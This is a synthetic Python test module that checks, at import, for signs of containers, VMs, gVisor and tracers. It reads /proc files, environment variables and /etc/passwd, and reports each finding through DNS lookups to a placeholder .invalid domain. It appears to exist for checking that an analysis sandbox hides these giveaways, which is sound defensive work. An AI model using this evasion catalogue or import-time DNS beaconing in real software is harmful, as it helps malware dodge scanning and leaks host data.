"""SYNTHETIC: sandbox/analysis detection at import. Each giveaway it finds is reported as a DNS
lookup of <tell>.tell.probe.invalid (answered by the sandbox's fake resolver, nowhere else)."""
import os
import socket

WORDS = ("docker", "container", "sandbox", "analysis", "gvisor", "runsc", "slopspotter", "strace", "lxc", "kube")


def read(path, n=65536):
    try:
        with open(path, "rb") as fh:
            return fh.read(n).decode("latin-1").lower()
    except OSError:
        return ""


tells = set()
if os.path.exists("/.dockerenv"):
    tells.add("dockerenv")
if os.path.exists("/run/.containerenv"):
    tells.add("containerenv")
sources = {
    "hostname": socket.gethostname().lower(),
    "cgroup": read("/proc/1/cgroup") + read("/proc/self/cgroup"),
    "environ": "\n".join(f"{k}={v}" for k, v in os.environ.items()).lower(),
    "mounts": read("/proc/self/mountinfo"),
    "user": os.environ.get("USER", "").lower() + read("/etc/passwd"),
    "sched": read("/proc/1/sched", 200),
    "version": read("/proc/version"),
    "cmdline1": read("/proc/1/cmdline"),
}
for src, text in sources.items():
    for word in WORDS:
        if word in text:
            tells.add(f"{src}-{word}")
status = read("/proc/self/status")
tracer = next((line.split()[1] for line in status.splitlines() if line.startswith("tracerpid:")), "0")
if tracer != "0":
    tells.add("tracerpid")
capeff = next((line.split()[1] for line in status.splitlines() if line.startswith("capeff:")), "0")
if int(capeff, 16):
    tells.add("caps-" + capeff)  # not a giveaway but a hole: the package must hold no capability
if "4.4.0" in sources["version"]:
    tells.add("gvisor-kernel-version")
if len(sources["hostname"]) == 12 and all(c in "0123456789abcdef" for c in sources["hostname"]):
    tells.add("hostname-container-id")
# what a careful evader adds (docs/security.md lists each, and which cannot be hidden)
for path in ("/in", "/out", "/run/secrets"):
    if os.path.exists(path):
        tells.add("path-" + path.strip("/").replace("/", "-"))
cmd1 = sources["cmdline1"].split("\0")[0]
if cmd1 and cmd1 not in ("/sbin/init", "/lib/systemd/systemd", "/usr/lib/systemd/systemd", "init"):
    tells.add("pid1-not-init")
try:
    if float(read("/proc/uptime").split()[0]) < 3600:
        tells.add("uptime-fresh")
except (ValueError, IndexError):
    tells.add("uptime-unreadable")
if (os.cpu_count() or 1) < 2:
    tells.add("cpu-one")
if " hypervisor" in read("/proc/cpuinfo", 1 << 20):
    tells.add("cpuinfo-hypervisor")
vendor = read("/sys/class/dmi/id/sys_vendor") + read("/sys/class/dmi/id/product_name")
if not os.path.isdir("/sys/class/dmi/id"):
    tells.add("dmi-missing")
elif any(v in vendor for v in ("qemu", "kvm", "virtualbox", "innotek", "vmware", "xen", "bochs", "firecracker")):
    tells.add("dmi-vm")
root_fs = next((line.split(" - ")[1].split()[0] for line in sources["mounts"].splitlines()
                if line.split()[4:5] == ["/"] and " - " in line), "")
if root_fs in ("overlay", "tmpfs", "aufs"):
    tells.add("rootfs-" + root_fs)
for tell in sorted(tells) or ["none"]:
    try:
        socket.getaddrinfo(f"{tell}.tell.probe.invalid", 80)
    except OSError:
        pass
